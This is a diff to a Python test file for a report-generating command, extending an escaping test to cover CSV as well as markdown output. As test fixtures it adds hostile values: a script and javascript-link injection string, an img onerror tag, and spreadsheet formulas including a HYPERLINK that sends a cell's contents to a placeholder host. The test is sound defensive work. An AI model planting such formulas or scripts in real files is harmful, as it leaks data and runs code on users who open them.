@@ -3,6 +3,7 @@ the attention-on-noise table and the Fig. 8 plot."""
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import warnings
@@ -301,13 +302,14 @@ def test_the_qualitative_sheet_needs_its_dataset_and_shop_paths(two_seeds, tmp_p
     assert not (tmp_path / "q.png").exists()
 
 
-def test_names_from_results_are_escaped_in_every_markdown_file(two_seeds, tmp_path):
+def test_names_from_results_are_escaped_in_every_markdown_and_csv_file(two_seeds, tmp_path):
     """Was: the ordering and the chance line wrote method names and keys from results.json raw
     (security audit D3)."""
     (a, b), _ = two_seeds
     evil = "<script>alert(1)</script>](javascript:x)"
+    formula = '=HYPERLINK("http://x.test/?"&A1,"open")'
     for r in (a, b):
-        r["names"] = {**r["names"], "seam": evil}
+        r["names"] = {**r["names"], "seam": evil, "max_confidence": formula, "seam_no_nlb_g": "@SUM(A1)"}
         r["chance"] = {**r["chance"], "<img onerror=x>": 0.5}
     paths = [_write(tmp_path, f"e{i}", r) for i, r in enumerate((a, b))]
     res = CliRunner().invoke(report, [str(p) for p in paths] + ["--out", str(tmp_path / "rep"), "--json"])
@@ -317,6 +319,12 @@ def test_names_from_results_are_escaped_in_every_markdown_file(two_seeds, tmp_pa
             text = (tmp_path / "rep" / f).read_text()
             assert "<script>" not in text and "<img" not in text, f
             assert not re.search(r"(?<!\\)\]\(javascript:", text), f  # an escaped \]( is no link
+        if f.endswith(".csv"):  # a spreadsheet shows the names as text, the numbers as numbers
+            cells = [c for row in csv.reader((tmp_path / "rep" / f).open(newline="")) for c in row]
+            assert "'" + formula in cells and "'@SUM(A1)" in cells and formula not in cells, f
+            assert not [
+                c for c in cells if c.startswith(tuple("=+-@\t\r")) and c != "-" and not c.startswith("'")
+            ], f
 
 
 def test_attention_bins_pool_every_frame_of_every_seed():
